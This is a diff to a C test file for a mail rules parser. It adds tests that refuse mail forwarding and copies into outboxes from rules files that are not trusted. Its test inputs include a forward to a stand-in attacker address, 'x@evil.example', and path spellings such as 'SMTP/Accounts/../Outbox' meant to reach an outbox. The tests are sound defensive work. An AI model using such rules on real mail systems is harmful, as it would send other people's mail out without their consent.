@@ -280,6 +280,81 @@ test_pipe_refused(void)
 	g_assert_cmpstr(error->message, ==, "/r/.rules: not UTF-8 text");
 }
 
+/* Parses @text as a rules file that may not be trusted; the error or "". */
+static char *
+untrusted_error(const char *text)
+{
+	g_autoptr(GError) error = NULL;
+	g_autoptr(MdirRules) rules = mdir_rules_parse(text, "/r/.rules", FALSE, &error);
+
+	if (rules) {
+		g_assert_false(mdir_rules_trusted(rules));
+		return g_strdup("");
+	}
+	g_assert_error(error, MDIR_ERROR, MDIR_ERROR_CONFIG);
+	return g_strdup(error->message);
+}
+
+#define OWNER_RULE "is allowed only in a rules file owned by root or by the folder's owner, " \
+		   "with no other link to it"
+
+/*
+ * What may not pipe may not send either (issue 16.4): no forward, and no
+ * copy or move into an outbox named as it is.  A template is judged when
+ * it is filled in (test-classify); a spelling that leads into an outbox
+ * through a dot name or an empty one is no folder name anyway.
+ */
+static void
+test_route_refused(void)
+{
+	static const struct {
+		const char *text;
+		const char *want;
+	} cases[] = {
+		{ "forward x@evil.example", "/r/.rules:1:1: forward " OWNER_RULE },
+		{ "notify\nif has x then forward x@evil.example", "/r/.rules:2:15: forward "
+								  OWNER_RULE },
+		{ "copy SMTP/Accounts/jo@example.org/Outbox", "/r/.rules:1:6: copy into an "
+							       "outbox (SMTP/Accounts/jo@example.org/Outbox) " OWNER_RULE },
+		{ "move SMTP/Outbox", "/r/.rules:1:6: move into an outbox (SMTP/Outbox) "
+				      OWNER_RULE },
+		{ "copy A; move \"SMTP/Outbox\"", "/r/.rules:1:14: move into an outbox "
+						  "(SMTP/Outbox) " OWNER_RULE },
+		/* case folded: a file system may fold it too */
+		{ "copy smtp/accounts/Jo@Example.org/OUTBOX", "/r/.rules:1:6: copy into an "
+							       "outbox (smtp/accounts/Jo@Example.org/OUTBOX) " OWNER_RULE },
+		{ "copy SMTP/Outbox/", "/r/.rules:1:6: \"SMTP/Outbox/\" is not a folder" },
+		{ "copy SMTP//Outbox", "/r/.rules:1:6: \"SMTP//Outbox\" is not a folder" },
+		{ "copy SMTP/Accounts/../Outbox", "/r/.rules:1:6: \"SMTP/Accounts/../Outbox\" is "
+						 "not a folder" },
+		/* not outboxes: allowed */
+		{ "copy SMTP/Outbox/Drafts; copy SMTP/Accounts/jo@example.org; copy Outbox", "" },
+		{ "copy SMTP/Accounts/jo@example.org/Old/Outbox; copy SMTP/Sent", "" },
+		/* templates: judged when planned */
+		{ "copy ~/Outbox; move {account}/Outbox; copy SMTP/Accounts/{to}/Outbox", "" },
+	};
+
+	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
+		g_autofree char *got = untrusted_error(cases[i].text);
+
+		if (!g_str_has_prefix(got, cases[i].want) || (*cases[i].want == '\0' && *got))
+			g_error("rules \"%s\": got \"%s\", want \"%s\"", cases[i].text, got,
+			    cases[i].want);
+	}
+}
+
+/* The rules file of the folder's owner may route anywhere, and says so. */
+static void
+test_route_trusted(void)
+{
+	g_autoptr(MdirRules) rules = parse("forward x@elsewhere.example\n"
+					   "copy SMTP/Outbox; move SMTP/Accounts/jo@example.org/Outbox\n");
+
+	g_assert_true(mdir_rules_trusted(rules));
+	ASSERT_RUN("forward x@elsewhere.example; copy SMTP/Outbox", "x: 1\n",
+	    "keep forward:x@elsewhere.example copy:SMTP/Outbox");
+}
+
 static void
 test_load_owner(void)
 {
@@ -382,6 +457,8 @@ test_load_links(void)
 	g_autofree char *link = g_build_filename(test_dir(), "link.rules", NULL);
 	g_autofree char *hard = g_build_filename(test_dir(), "hard.rules", NULL);
 	g_autofree char *hard2 = g_build_filename(test_dir(), "hard2.rules", NULL);
+	g_autofree char *fwd = test_write_tmp("fwd", "forward x@evil.example\n");
+	g_autofree char *hard3 = g_build_filename(test_dir(), "hard3.rules", NULL);
 	g_autoptr(GError) error = NULL;
 	g_autoptr(MdirRules) rules = NULL;
 
@@ -402,7 +479,20 @@ test_load_links(void)
 	rules = mdir_rules_load(hard2, getuid(), &error);
 	g_assert_no_error(error);
 	g_assert_cmpuint(mdir_rules_count(rules), ==, 1);
+	g_assert_false(mdir_rules_trusted(rules));
 	g_clear_pointer(&rules, mdir_rules_free);
+	/* nor forwards: a group member's file may not send the account's mail */
+	rules = mdir_rules_load(fwd, getuid(), &error);
+	g_assert_no_error(error);
+	g_assert_true(mdir_rules_trusted(rules));
+	g_clear_pointer(&rules, mdir_rules_free);
+	g_assert_cmpint(link_file(fwd, hard3), ==, 0);
+	rules = mdir_rules_load(hard3, getuid(), &error);
+	g_assert_null(rules);
+	g_assert_nonnull(strstr(error->message, ":1:1: forward is allowed only in a rules file "
+						"owned by root or by the folder's owner, with no "
+						"other link to it"));
+	g_clear_error(&error);
 	/* a directory is not a rules file */
 	rules = mdir_rules_load(test_dir(), getuid(), &error);
 	g_assert_null(rules);
@@ -419,6 +509,8 @@ main(int argc, char **argv)
 	g_test_add_func("/rules/expand", test_expand);
 	g_test_add_func("/rules/errors", test_errors);
 	g_test_add_func("/rules/pipe-refused", test_pipe_refused);
+	g_test_add_func("/rules/route-refused", test_route_refused);
+	g_test_add_func("/rules/route-trusted", test_route_trusted);
 	g_test_add_func("/rules/load-owner", test_load_owner);
 	g_test_add_func("/rules/open-parens-overread", test_open_parens_overread);
 	g_test_add_func("/rules/nesting", test_nesting);
